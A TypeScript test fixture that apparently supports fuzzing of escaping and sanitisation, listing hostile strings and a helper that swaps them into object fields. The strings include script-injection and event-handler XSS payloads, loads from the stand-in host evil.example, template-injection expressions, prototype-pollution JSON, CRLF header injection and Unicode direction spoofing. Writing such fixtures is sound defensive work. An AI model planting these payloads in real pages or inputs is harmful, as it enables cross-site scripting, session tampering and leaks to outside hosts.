const RUN = 'window.__pwned=1';

/**
 * Texts that do harm where they are taken for anything but text. Each runs `window.__pwned=1`, loads `x` or asks evil.example, makes an
 * element with `data-pwned`, or changes how its neighbours are read.
 */
export const hostileStrings = {
  script: `<script>${RUN}</script>`,
  scriptBreakout: `</script><script>${RUN}//`,
  scriptFromElsewhere: '<script src=//evil.example/x.js></script>',
  image: `<img src=x onerror=${RUN}>`,
  imageFromElsewhere: '<img src="http://evil.example/pixel.gif">',
  quoteBreakout: `"'><svg/onload=${RUN} data-pwned>`,
  attributeBreakout: `" autofocus onfocus="${RUN}" data-pwned="`,
  nestedSvg: `<svg><animate onbegin=${RUN} attributeName=x dur=1s><foreignObject><body onload=${RUN}>`,
  details: `<details open ontoggle=${RUN} data-pwned>x</details>`,
  iframe: `<iframe srcdoc="<script>parent.${RUN.replace('window.', '')}</script>"></iframe>`,
  base: '<base href="http://evil.example/"><link rel=stylesheet href=//evil.example/x.css>',
  form: `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}" data-pwned>Pay</button></form>`,
  closers: `--></textarea></title></style></pre></template>]]><b data-pwned>b</b>`,
  scriptUrl: `javascript:${RUN}//`,
  hiddenScriptUrl: `java\tscript:${RUN}`,
  dataUrl: `data:text/html,<script>${RUN}</script>`,
  styles: `</style><style>*{background:url(//evil.example/x)}</style>;color:red;background:url(//evil.example/y)`,
  templates: `{{constructor.constructor("${RUN}")()}} \${${RUN}} <%= ${RUN} %> #{${RUN}} [[${RUN}]]`,
  entities: `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62;`,
  markdown: `[pay](javascript:${RUN}) ![x](http://evil.example/y.gif) <http://evil.example/>`,
  direction: 'from \u202egnp.exe\u202c to \u2066hidden\u2069 \u200e\u200f end',
  controls: 'a\u0001b\u0008c\u001b[31mred\u001b[0m\u0007 nul\u0000 del\u007f c1\u009b31m',
  unseen: 'zero\u200bwidth\ufeffmark\u2028line\u2029paragraph',
  lonelySurrogates: 'high \ud83d low \udca9 end',
  prototype: '__proto__',
  constructor_: 'constructor',
  method: 'toString',
  json: `{"__proto__":{"isAdmin":true},"html":"<img src=x onerror=${RUN}>"}`,
  lineEnds: 'one\r\nSet-Cookie: pwned=1\r\n\r\n<script>two</script>',
  combining: `Z${'\u0335\u0321\u0352'.repeat(20)}algo`,
  long: `<b data-pwned>${'W'.repeat(150)}`,
} as const;

/** The texts, in order. */
export const hostileTexts: readonly string[] = Object.values(hostileStrings);

/** The same value with every text in it replaced, keys kept; `isKept` names the ones that give the value its form. */
export function poison(value: unknown, isKept: (key: string) => boolean, pick: () => string, key = ''): unknown {
  if (typeof value === 'string') return isKept(key) ? value : pick();
  if (Array.isArray(value)) return value.map((item) => poison(item, isKept, pick, key));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, poison(item, isKept, pick, name)]));
}

/** The text as it can travel in UTF-8: a surrogate without its other half becomes U+FFFD. */
export function toWellFormed(text: string): string {
  return Buffer.from(text, 'utf8').toString('utf8');
}
